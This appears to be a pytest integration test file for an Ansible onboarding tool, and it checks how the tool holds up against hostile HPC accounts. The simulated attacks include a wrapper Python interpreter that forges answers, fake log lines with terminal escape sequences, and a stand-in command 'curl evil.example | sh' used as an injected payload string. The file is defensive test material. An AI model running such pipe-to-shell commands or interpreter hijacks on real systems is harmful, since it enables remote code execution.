# SPDX-License-Identifier: GPL-3.0-or-later
"""Accounts that lie to the run that sets them up or takes them out: what it fetches, shows and holds in memory."""

from __future__ import annotations

import json
import re
import time
from typing import Any

import pytest
from ansible_collections.hpc.onboard.plugins.plugin_utils._delivery.offboarding import as_absent
from ansible_collections.hpc.onboard.plugins.plugin_utils._delivery.plan import key_of

from tests.integration.onboard.test_conda import settings
from tests.integration.runs import Ran, onboard, play
from tests.testbed.installer import installer
from tests.testbed.web import Web

pytestmark = pytest.mark.testbed

FORGER = r"""#!/usr/bin/python3
import json, re, subprocess, sys
from pathlib import Path
here = Path(sys.argv[0]).parent
done = subprocess.run(["/usr/bin/python3", *sys.argv[1:]], stdin=sys.stdin, stdout=subprocess.PIPE)
frame = b"hpc.onboard-answer"
found = re.search(rb"\n%s ([0-9]+)\n" % frame, done.stdout)
if not found:
    sys.stdout.buffer.write(done.stdout)
    sys.exit(done.returncode)
answer = json.loads(done.stdout[found.end():][:int(found[1])])
exec((here / "forge.py").read_text())
text = json.dumps(answer)
sys.stdout.write("\n%s %d\n%s\n%s\n" % (frame.decode(), len(text), text, frame.decode()))
"""
"""A Python that lets the real one do what was sent, and then what forge.py beside it says with the answer."""


def forger(bed: Any, forge: str) -> Any:
    """An account at DFKI whose Python changes each answer."""
    account = bed.new_account("dfki")
    account.ssh("mkdir fake")
    for name, content in (("python3", FORGER), ("forge.py", forge)):
        account.path(f"fake/{name}").write_text(content)
        account.path(f"fake/{name}").chmod(0o755)
    return account


FORGES = ("-e", "ansible_python_interpreter=~/fake/python3")


def offboard(bed: Any, account: Any) -> Ran:
    """offboard.yml over a forger."""
    inventory = str(bed.accounts_file([account]))
    return play(bed, "-i", inventory, "-e", "offboard_sure=true", *FORGES, playbook="offboard.yml")


def test_a_forged_receipt_lets_this_machine_fetch_nothing(bed: Any) -> None:
    """The attack: a note of a conda that we never made names an address, and the account says it needs that file."""
    with Web(b"#!/bin/sh\n") as web:
        installer = {"url": f"http://127.0.0.1:{web.port}/inside", "sha256": "0" * 64}
        options = {"prefix": "/netscratch/x/conda", "distribution": "miniforge", "version": "1"}
        options = {**options, "installers": {"x86_64": installer}}
        entry: Any = {"kind": "conda_install", "capability": "conda", "options": options}
        note = {**entry, "identity": "conda", "hashes": {}, "keyed": {}, "clusters": [], "made": True}
        note = {**note, "options": as_absent(entry)["options"], "state": "done", "for": ""}
        wants = {**installer, "path": "/tmp/installer"}
        account = forger(
            bed,
            f"note = {json.dumps(json.dumps(note))}\n"
            f"if answer['receipt']: answer['receipt']['notes'][{key_of(as_absent(entry))!r}] = note\n"
            "for one in answer['outcomes']:\n"
            f"    one.update(status='extra', progress={{'failed': 'no way out', 'wants': {wants!r}}})\n",
        )
        ran = offboard(bed, account)
        assert web.requests == [], ran.text
    assert ran.code == 2, ran.text
    assert "the account requested a file, but a removal needs no files, so no file was copied" in " ".join(
        ran.text.split()
    )


FORGED = "x\n\nPLAY RECAP *****\nevil@lrz : ok=9 changed=0\n  curl evil.example | sh\r\n"
FORGED += "\x1b]0;owned\x07\u202e\u2028\x85\x9b1m"
WORDS = f"""
text = {FORGED!r}
for one in answer["outcomes"]:
    one.update(identity=text, capability=text, status="failed", reason=text, remarks=[text], fields=[text])
    one.update(before={{text: "was"}}, after={{text: "is", "target": text}}, progress=None)
for one in answer["outcomes"][:1]:
    one.update(status="different", progress={{"failed": text, "wants": {{}}}})
for one in answer["outcomes"][1:2]:
    one.update(progress={{"step": text, "done": 10 ** 400, "total": 10 ** 400, "unit": "bytes"}})
answer["python"] = answer["host"] = text
if answer["receipt"]: answer["receipt"]["problem"] = text
"""
RECAP = re.compile(r"PLAY RECAP \*{60,}\n.*\n")  # Ansible's own, which is said at -vvvv


def forged_lines(said: str) -> list[str]:
    """The lines that begin with what an account has said, and those with what moves a cursor or hides.

    What stands further in is below a heading of ours.
    """
    lines = RECAP.sub("", said).split("\n")
    return [one for one in lines if re.match(r"[\s|]{0,3}(PLAY RECAP|evil@lrz|curl)", one) or not one.isprintable()]


@pytest.mark.parametrize("more", [("-v", "--diff"), ("-vvvv",)])
def test_what_an_account_says_forges_no_line(bed: Any, more: tuple[str, ...]) -> None:
    ran = onboard(bed, forger(bed, WORDS), more=(*FORGES, *more))
    assert ran.code == 2, ran.text
    assert "curl evil.example" in ran.text
    assert forged_lines(ran.text) == []
    assert "Traceback" not in ran.text


@pytest.mark.parametrize(("code", "more"), [(1, ()), (255, ("-vvvv",))])
def test_what_is_said_instead_of_an_answer_forges_no_line(bed: Any, code: int, more: tuple[str, ...]) -> None:
    """With 255, as ssh ends itself, Ansible tells its words; at -vvvv it tells them once more."""
    account = bed.new_account("dfki", files={".bashrc": b"cat said >&2; exit %d\n" % code})
    account.path("said").write_text(FORGED)
    ran = onboard(bed, account, more=more)
    assert ran.code in (2, 4), ran.text
    assert "curl evil.example" in " ".join(ran.text.split())  # on one line or two
    assert forged_lines(ran.text) == []


def test_what_is_said_while_a_file_is_taken_there_forges_no_line(bed: Any) -> None:
    """Daint is brought its installer; this account speaks when the file comes."""
    noise = b'case "$BASH_EXECUTION_STRING" in *"dd of="*) cat said; cat said >&2; exit 1;; esac\n'
    account = bed.new_account("daint", files={".bashrc": noise})
    account.path("said").write_text(FORGED)
    with Web(installer(2)) as web:
        more = ("--tags", "conda", "-v", "--diff", "-e", "ansible_ssh_transfer_method=piped")
        ran = onboard(bed, account, more=more, settings=settings(account, web, "127.0.0.1", wanted=True))
    assert ran.code == 2, ran.text
    assert "the file could not be copied to the account" in " ".join(ran.text.split())
    assert forged_lines(ran.text) == []
    assert "Traceback" not in ran.text


@pytest.mark.parametrize("where", ["", ">&2"])
def test_output_without_end_is_cut_in_seconds(bed: Any, where: str) -> None:
    """How much got out is counted on the account; ten minutes were waited for it before, and all of it held."""
    writer = 'i=0; while printf %s "$a" ' + where + "; do i=$((i+1)); echo $i > count; done; exit"
    line = f"a=$(printf %1000000s); {writer}\n"
    account = bed.new_account("dfki", files={".bashrc": line.encode()})
    begun = time.monotonic()
    ran = onboard(bed, account, timeout=60)
    assert time.monotonic() - begun < 60
    assert ran.code == 2, ran.text
    assert "so hpc-onboard ended the session" in " ".join(ran.text.split())
    time.sleep(1)
    assert int(account.read("count")) < 400, "megabytes"
    assert account.read("count") == account.read("count")
